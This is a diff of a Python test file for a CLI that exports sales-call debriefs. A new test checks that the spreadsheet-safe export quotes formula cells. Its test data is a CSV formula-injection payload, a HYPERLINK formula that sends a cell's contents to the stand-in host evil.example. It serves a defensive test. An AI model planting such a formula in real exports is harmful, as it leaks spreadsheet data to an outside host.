@@ -33,7 +33,12 @@ CONTRACT_COLUMNS = [
 ]
 
 
-def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = None):
+def run_cli(
+    *args: str,
+    env: dict[str, str] | None = None,
+    cwd: Path | None = None,
+    umask: int | None = None,
+):
     clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_"))}
     clean.update(env or {})
     # A scratch working directory, so a developer's own .env never leaks into a test.
@@ -46,6 +51,7 @@ def run_cli(*args: str, env: dict[str, str] | None = None, cwd: Path | None = No
         env=clean,
         cwd=workdir,
         timeout=60,
+        umask=-1 if umask is None else umask,
     )
 
 
@@ -268,3 +274,21 @@ def test_slack_unreachable_is_one_line_naming_it(tmp_path: Path) -> None:
     assert result.returncode == 1
     assert "cannot reach Slack at http://127.0.0.1:9/api/" in one_line_error(result.stderr)
     assert result.stderr.count("\n") == 1  # the client's own retry log is not repeated
+
+
+def test_spreadsheet_safe_export_quotes_what_a_spreadsheet_would_run(
+    running_app: RunningApp, tmp_path: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    _record_both_ways(running_app, formula)
+    env = {"DATABASE_URL": running_app.db.url}
+    as_typed = list(csv.DictReader(io.StringIO(run_cli("export", "debriefs", env=env).stdout)))
+    assert [as_typed[0]["went_well"], as_typed[1]["improve"]] == [formula, formula]
+    result = run_cli("export", "debriefs", "--spreadsheet-safe", env=env)
+    assert result.returncode == 0, result.stderr
+    safe = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [safe[0]["went_well"], safe[1]["improve"]] == ["'" + formula, "'" + formula]
+    assert safe[0]["deal"] == "Acme Corp" and safe[0]["call_date"] == "2026-11-30"
+    out = tmp_path / "safe.csv"
+    run_cli("export", "debriefs", "--spreadsheet-safe", "--output", str(out), env=env)
+    assert out.read_text(encoding="utf-8") == result.stdout
